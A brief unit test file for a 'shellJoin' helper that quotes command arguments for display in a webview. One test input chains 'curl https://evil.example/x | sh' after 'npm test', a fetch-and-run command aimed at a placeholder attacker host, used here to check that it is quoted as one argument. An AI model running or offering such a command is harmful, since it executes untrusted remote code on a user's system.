import assert from 'node:assert/strict';
import { shellJoin } from '../../webview/model';

describe('webview: an argv command shown as the line that runs', () => {
  it('quotes arguments a shell would split or interpret', () => {
    assert.equal(shellJoin(['npm', 'test']), 'npm test');
    assert.equal(shellJoin(['sh', '-c', 'npm test; curl https://evil.example/x | sh']), "sh -c 'npm test; curl https://evil.example/x | sh'");
    assert.equal(shellJoin(['echo', "it's"]), "echo 'it'\\''s'");
    assert.equal(shellJoin(['printf', '']), "printf ''");
  });
});
